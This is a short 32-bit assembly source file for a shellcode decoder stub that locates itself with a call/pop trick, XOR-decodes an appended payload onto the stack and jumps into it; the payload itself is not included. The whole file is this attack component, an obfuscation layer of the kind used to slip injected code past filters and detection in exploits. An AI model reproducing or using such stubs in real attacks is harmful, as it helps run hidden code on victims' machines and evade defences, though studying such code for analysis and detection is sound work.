; Decoder: decodes a copy of the payload on the stack and jumps there.
bits 32
        jmp short start
length: dw 0
start:  call here
here:   pop esi
        movzx ecx, word [esi + length - here]
        add esi, byte payload - here
        sub esp, 0x1000
        mov edi, esp
again:  lodsb
        xor al, cl
        stosb
        loop again
        jmp esp
payload:
